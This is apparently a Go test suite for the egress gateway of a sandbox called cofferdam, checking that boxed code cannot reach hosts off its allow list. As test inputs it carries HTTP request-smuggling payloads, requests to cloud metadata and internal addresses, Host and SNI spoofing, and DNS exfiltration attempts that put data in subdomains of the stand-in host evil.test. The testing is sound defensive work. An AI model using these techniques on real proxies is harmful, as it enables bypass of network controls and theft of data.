package egress_test

import (
	"bufio"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"cofferdam"
	"cofferdam/gateway"
	"cofferdam/gateway/egress"
	"cofferdam/policy"
)

// EGR-01: an allow list that is missing, empty or only a comment allows
// nothing; one that cannot be read refuses the start.
func TestEGR01EmptyAllowList(t *testing.T) {
	for name, list := range map[string][]string{"missing": nil, "empty": {}} {
		t.Run(name, func(t *testing.T) {
			l := newLab(t, list...)
			out, _ := l.box.Run("curl", "-sS", "-m", "10", "https://evil.test/")
			contains(t, out, "evil.test:443 is refused", "no host is allowed")
			if r := l.reached(); len(r) != 0 {
				t.Errorf("reached the outside: %q", r)
			}
		})
	}
	for _, list := range [][]string{{""}, {"null"}, {"*"}, {"good.test", ""}, {"~"}} {
		if _, err := policy.ParseAllow(list, nil); cofferdam.KindOf(err) != cofferdam.Invalid {
			t.Errorf("allow list %q: %v, want an invalid error", list, err)
		}
	}
}

// EGR-08: a name on the list that leads to an address that is never reached,
// in every form. TestReserved in the gateway has the addresses; here the way
// through the wire.
func TestEGR08ReservedAddress(t *testing.T) {
	l := newLab(t, "good.test", "other.test")
	for _, addr := range []string{"169.254.169.254", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "fd00:ec2::254", "100.100.100.200", "168.63.129.16", "127.0.0.1", "10.0.0.1"} {
		l.set("good.test", addr)
		for _, url := range []string{"http://good.test/", "https://good.test/"} {
			out, err := l.box.Run("curl", "-sS", "-i", url)
			if err != nil {
				t.Errorf("%s, %s: %v", addr, url, err)
			}
			contains(t, out, "403 Forbidden", "X-Cofferdam-Rule: reserved-address", "never reached from a box")
		}
	}
	if !slices.ContainsFunc(l.refusals(), func(s string) bool { return strings.HasPrefix(s, "reserved-address good.test:") }) {
		t.Errorf("no refusal for the address on record: %q", l.refusals())
	}
	// EGR-09: one bad address in the answer denies, and there is one look-up for a connection.
	l.set("other.test", l.addr.String(), "169.254.169.254")
	before := len(l.asked())
	out, _ := l.box.Run("curl", "-sS", "http://other.test/")
	contains(t, out, "never reached from a box")
	if n := len(l.asked()) - before; n != 1 {
		t.Errorf("%d look-ups for one connection", n)
	}
	// The twin: the listed address.
	l.set("other.test", l.addr.String())
	if out, err := l.box.Run("curl", "-sSf", "http://other.test/"); err != nil {
		t.Errorf("twin: %v: %s", err, out)
	}
}

// EGR-10: data in the labels of a name never reaches a resolver.
func TestEGR10DataInLabels(t *testing.T) {
	l := newLab(t, "good.test", "*.good.test")
	canary := strings.Repeat("deadbeef", 7)
	for i := range 20 {
		name := fmt.Sprintf("%s%02d.evil.test", canary, i)
		l.box.Run("curl", "-sS", "-m", "10", "https://"+name+"/")
		l.box.Run("getent", "hosts", name)
		l.box.Lookup(context.Background(), name)
	}
	if a := l.asked(); len(a) != 0 {
		t.Errorf("asked of the outside resolver: %q", a)
	}
	if out, err := l.box.Run("curl", "-sSf", "https://below.good.test/"); err != nil {
		t.Errorf("twin: %v: %s", err, out)
	}
}

// quiet is how long send waits for another answer.
const quiet = 2 * time.Second

// send writes raw text to name:80 and returns everything that comes back.
func (l *lab) send(name, text string) string {
	l.t.Helper()
	conn, err := l.box.DialName(name, 80)
	if err != nil {
		l.t.Fatal(err)
	}
	return l.say(conn, text)
}

// sendTLS is send inside TLS to name:443, under our authority.
func (l *lab) sendTLS(name, text string) string {
	l.t.Helper()
	return l.say(l.secure(name), text)
}

// secure makes a TLS connection from inside to name:443, which has to be under
// our authority.
func (l *lab) secure(name string) net.Conn {
	l.t.Helper()
	conn, err := l.box.DialName(name, 443)
	if err != nil {
		l.t.Fatal(err)
	}
	l.t.Cleanup(func() { conn.Close() })
	c := tls.Client(conn, &tls.Config{ServerName: name, RootCAs: l.ours})
	if err := c.Handshake(); err != nil {
		l.t.Fatal(err)
	}
	return c
}

func (l *lab) say(conn net.Conn, text string) string {
	l.t.Helper()
	defer conn.Close()
	if _, err := io.WriteString(conn, text); err != nil {
		l.t.Fatal(err)
	}
	// A connection that is kept open is quiet when all is answered; a reset
	// after the answer is as good as its end. The first answer may take longer on
	// a busy machine.
	var out []byte
	buf := make([]byte, 64<<10)
	for wait := time.Minute; ; wait = quiet {
		conn.SetDeadline(time.Now().Add(wait))
		n, err := conn.Read(buf)
		out = append(out, buf[:n]...)
		if err != nil {
			return string(out)
		}
	}
}

func TestHostMustBeTheName(t *testing.T) {
	l := newLab(t, "good.test", "*.good.test")
	for _, c := range []struct{ name, request, rule string }{
		{"other host", "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", gateway.RuleHost},
		{"allowed other host", "GET / HTTP/1.1\r\nHost: below.good.test\r\n\r\n", gateway.RuleHost},
		{"suffix", "GET / HTTP/1.1\r\nHost: good.test.evil.test\r\n\r\n", gateway.RuleHost},
		{"brackets", "GET / HTTP/1.1\r\nHost: [evil.test]\r\n\r\n", gateway.RuleHost},
		{"other port", "GET / HTTP/1.1\r\nHost: good.test:8080\r\n\r\n", gateway.RuleHost},
		{"none", "GET / HTTP/1.0\r\n\r\n", gateway.RuleHost},
		{"connect", "CONNECT good.test:80 HTTP/1.1\r\nHost: good.test:80\r\n\r\n", gateway.RuleProxy},
		{"connect elsewhere", "CONNECT evil.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n", gateway.RuleProxy},
		{"absolute", "GET http://evil.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n", gateway.RuleProxy},
		{"absolute, mirrored", "GET http://good.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n", gateway.RuleProxy},
		{"second request", "GET /first HTTP/1.1\r\nHost: good.test\r\n\r\nGET /second HTTP/1.1\r\nHost: evil.test\r\n\r\n", gateway.RuleHost},
	} {
		for way, send := range map[string]func(string, string) string{"plain": l.send, "tls": l.sendTLS} {
			t.Run(c.name+"/"+way, func(t *testing.T) {
				before := len(l.reached())
				contains(t, send("good.test", c.request), "403 Forbidden", "X-Cofferdam-Rule: "+c.rule)
				for _, r := range l.reached()[before:] {
					if r != "GET good.test/first " {
						t.Errorf("reached the outside: %q", r)
					}
				}
			})
		}
	}
	const honest = "GET /a HTTP/1.1\r\nHost: GOOD.test:%d\r\n\r\nGET /b HTTP/1.1\r\nHost: good.test.\r\n\r\n"
	for _, out := range []string{l.send("good.test", fmt.Sprintf(honest, 80)), l.sendTLS("good.test", fmt.Sprintf(honest, 443))} {
		if n := strings.Count(out, "200 OK"); n != 2 {
			t.Errorf("twin: %d of 2 requests answered: %s", n, out)
		}
	}
}

type smuggled struct{ name, request string }

// smuggling returns requests that could mean two things; mark ends each path.
func smuggling(mark string) []smuggled {
	hidden := "GET /hidden" + mark + " HTTP/1.1\r\nHost: good.test\r\n\r\n"
	head := "POST /echo" + mark + " HTTP/1.1\r\nHost: good.test\r\n"
	return []smuggled{
		{"length and chunked", head + fmt.Sprintf("Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", len(hidden)+5) + hidden},
		{"two lengths", head + "Content-Length: 0\r\nContent-Length: " + fmt.Sprint(len(hidden)) + "\r\n\r\n" + hidden},
		{"odd encoding", head + "Transfer-Encoding: chunked, x\r\n\r\n0\r\n\r\n" + hidden},
		{"spaced name", head + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + hidden},
		{"folded", head + "X: a\r\n b\r\nContent-Length: 0\r\n\r\n"},
		{"signed length", head + "Content-Length: +0\r\n\r\n" + hidden},
		{"chunk of 20 digits", head + "Transfer-Encoding: chunked\r\n\r\n00000000000000000000\r\n\r\n" + hidden},
		{"two hosts", "GET /x" + mark + " HTTP/1.1\r\nHost: good.test\r\nHost: evil.test\r\n\r\n"},
		{"two hosts in one", "GET /x" + mark + " HTTP/1.1\r\nHost: good.test, evil.test\r\n\r\n"},
		{"user and host", "GET /x" + mark + " HTTP/1.1\r\nHost: good.test@evil.test\r\n\r\n"},
		{"zero byte", "GET /x" + mark + " HTTP/1.1\r\nHost: good.test\r\nX: a\x00b\r\n\r\n"},
		{"body of a get", "GET /x" + mark + " HTTP/1.1\r\nHost: good.test\r\nContent-Length: " + fmt.Sprint(len(hidden)) + "\r\n\r\n" + hidden},
	}
}

// What could mean two things to two readers is refused, or reaches the far
// side in one meaning: as many requests as were judged.
func TestSmuggling(t *testing.T) {
	l := newLab(t, "good.test")
	for i, c := range smuggling("") {
		for way, send := range map[string]func(string, string) string{"plain": l.send, "tls": l.sendTLS} {
			t.Run(c.name+"/"+way, func(t *testing.T) {
				// What an earlier case was allowed may reach the outside late: each
				// has paths of its own.
				mark := fmt.Sprintf("-%d-%s", i, way)
				recorded := len(l.record.Find(cofferdam.EventRequest))
				out := send("good.test", smuggling(mark)[i].request)
				l.settled()
				var allowed int
				for _, e := range l.record.Find(cofferdam.EventRequest)[recorded:] {
					if e.Verdict == cofferdam.Allowed {
						allowed++
					}
				}
				var reached []string
				for _, r := range l.reached() {
					if strings.Contains(r, mark+" ") {
						reached = append(reached, r)
					}
				}
				if len(reached) > allowed {
					t.Errorf("%d requests reached the outside, %d were let through: %q\n%s", len(reached), allowed, reached, out)
				}
			})
		}
	}
}

func TestHugeHeaderIsRefused(t *testing.T) {
	l := newLab(t, "good.test")
	conn, err := l.box.DialName("good.test", 80)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(20 * time.Second))
	go fmt.Fprintf(conn, "GET / HTTP/1.1\r\nHost: good.test\r\nX: %s\r\n\r\n", strings.Repeat("a", 1<<20))
	r, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatal(err)
	}
	r.Body.Close()
	if r.StatusCode != http.StatusRequestHeaderFieldsTooLarge {
		t.Errorf("status %s", r.Status)
	}
	if got := l.reached(); len(got) != 0 {
		t.Errorf("reached the outside: %q", got)
	}
}

// handshake makes a TLS connection to name:443 whose hello says sni.
func (l *lab) handshake(name, sni string) (*http.Response, string, error) {
	l.t.Helper()
	conn, err := l.box.DialName(name, 443)
	if err != nil {
		return nil, "", err
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(20 * time.Second))
	c := tls.Client(conn, &tls.Config{ServerName: sni, InsecureSkipVerify: true})
	if _, err := fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", name); err != nil {
		return nil, "", err
	}
	r, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return nil, "", err
	}
	defer r.Body.Close()
	body, err := io.ReadAll(r.Body)
	return r, string(body), err
}

func TestServerNameMustBeTheName(t *testing.T) {
	l := newLab(t, "good.test", "other.test")
	r, body, err := l.handshake("good.test", "good.test")
	if err != nil || r.StatusCode != 200 {
		t.Fatalf("twin: %v, %v", r, err)
	}
	contains(t, body, "hello from good.test")
	for _, sni := range []string{"evil.test", "other.test", "good.test.evil.test"} {
		r, body, err := l.handshake("good.test", sni)
		if err != nil {
			t.Errorf("%s: %v", sni, err)
			continue
		}
		if r.StatusCode != 403 || r.Header.Get("X-Cofferdam-Rule") != gateway.RuleHost {
			t.Errorf("%s: %s, rule %q: %s", sni, r.Status, r.Header.Get("X-Cofferdam-Rule"), body)
		}
	}
	if _, _, err := l.handshake("good.test", ""); err == nil || !strings.Contains(err.Error(), "unrecognized name") {
		t.Errorf("without a name: %v", err)
	}
	if _, _, err := l.handshake("evil.test", ""); err == nil || !strings.Contains(err.Error(), "unrecognized name") {
		t.Errorf("refused, without a name: %v", err)
	}
	// The address of refused names, with an allowed name inside.
	if r, _, err := l.handshake("evil.test", "good.test"); err != nil || r.Header.Get("X-Cofferdam-Rule") != egress.RuleAddress {
		t.Errorf("allowed name at the refusal address: %v, %v", r, err)
	}
	contains(t, l.send("evil.test", "GET / HTTP/1.1\r\nHost: good.test\r\n\r\n"), "X-Cofferdam-Rule: "+egress.RuleAddress)
	if n := len(l.reached()); n != 1 {
		t.Errorf("%d requests reached the outside: %q", n, l.reached())
	}
	for _, e := range l.record.Events() {
		if e.Fields["content"] == "unseen" {
			t.Errorf("the record says that content was unseen: %v", e)
		}
	}
}

func TestOtherProtocols(t *testing.T) {
	l := newLab(t, "good.test:8080", "good.test")
	for _, first := range []string{"\x00\x01\x02\x03", "ehlo x\r\n", "\x16\x03\x01\x00\x05junk!"} {
		conn, err := l.box.DialName("good.test", 8080)
		if err != nil {
			t.Fatal(err)
		}
		conn.SetDeadline(time.Now().Add(20 * time.Second))
		io.WriteString(conn, first)
		out, _ := io.ReadAll(conn)
		conn.Close()
		if len(out) > 7 { // a TLS alert at most
			t.Errorf("%q got %q", first, out)
		}
	}
	if out, err := l.box.Run("curl", "-sSf", "http://good.test:8080/"); err != nil {
		t.Errorf("twin: %v: %s", err, out)
	}
	if n := len(l.reached()); n != 1 {
		t.Errorf("%d requests reached the outside", n)
	}
	refused := 0
	for _, e := range l.refusals() {
		if e == egress.RuleProtocol+" good.test:8080" {
			refused++
		}
	}
	if refused != 3 {
		t.Errorf("refusals: %q", l.refusals())
	}
}

// A spliced connection that one side has ended goes on in the other direction.
func TestHalfClose(t *testing.T) {
	l := newLab(t, "splice:good.test")
	conn, err := l.box.DialName("good.test", 443)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(30 * time.Second))
	c := tls.Client(conn, &tls.Config{ServerName: "good.test", InsecureSkipVerify: true})
	const size = 3 << 20
	// The server answers once it has heard the end: one that closes while that is on
	// its way makes its kernel throw away what it has sent.
	fmt.Fprintf(c, "GET /late/bytes/%d HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n", size)
	if err := c.CloseWrite(); err != nil {
		t.Fatal(err)
	}
	if err := conn.(*net.TCPConn).CloseWrite(); err != nil {
		t.Fatal(err)
	}
	out, err := io.ReadAll(c)
	if err != nil || len(out) < size {
		t.Errorf("%d bytes after the half close: %v", len(out), err)
	}
}

func TestSessionEndCutsConnections(t *testing.T) {
	l := newLab(t, "good.test")
	var conns []net.Conn
	for _, port := range []int{80, 443} {
		conn, err := l.box.DialName("good.test", port)
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		if port == 443 {
			c := tls.Client(conn, &tls.Config{ServerName: "good.test", InsecureSkipVerify: true})
			if err := c.Handshake(); err != nil {
				t.Fatal(err)
			}
		} else {
			io.WriteString(conn, "GET / HTTP/1.1\r\nHost: good.test\r\n\r\n")
			if _, err := http.ReadResponse(bufio.NewReader(conn), nil); err != nil {
				t.Fatal(err)
			}
		}
		conns = append(conns, conn)
	}
	start := time.Now()
	l.end()
	for _, conn := range conns {
		conn.SetReadDeadline(time.Now().Add(20 * time.Second))
		_, err := io.Copy(io.Discard, conn)
		if ne, ok := err.(net.Error); ok && ne.Timeout() {
			t.Error("a connection outlives its session")
		}
	}
	if d := time.Since(start); d > 20*time.Second {
		t.Errorf("all of it was dead only after %v", d)
	}
	if _, err := l.box.Dial("tcp", "198.18.0.2:80"); err == nil {
		t.Error("a new connection after the end of the session")
	}
}

func TestAnswerThatBreaksOff(t *testing.T) {
	l := newLab(t, "good.test")
	out, err := l.box.Run("curl", "-sS", "http://good.test/break")
	if err == nil {
		t.Errorf("curl did not notice: %s", out)
	}
	l.settled()
	events := l.record.Find(cofferdam.EventRequest)
	if last := events[len(events)-1]; last.Outcome != "cut" || last.Fields["status"] != "200" {
		t.Errorf("outcome: %+v", last)
	}
}

func TestNoRecordNoPass(t *testing.T) {
	l := newLab(t, "good.test")
	if _, err := l.box.Run("curl", "-sSf", "http://good.test/"); err != nil {
		t.Fatal(err)
	}
	before := len(l.reached())
	l.record.FailWhen(func(cofferdam.Event) error { return io.ErrShortWrite })
	out, _ := l.box.Run("curl", "-sS", "-i", "http://good.test/")
	contains(t, out, "503", "cannot be put on record")
	out, _ = l.box.Run("curl", "-sS", "-i", "https://good.test/")
	contains(t, out, "503", "cannot be put on record")
	if n := len(l.reached()) - before; n != 0 {
		t.Errorf("%d requests passed without a record", n)
	}
}
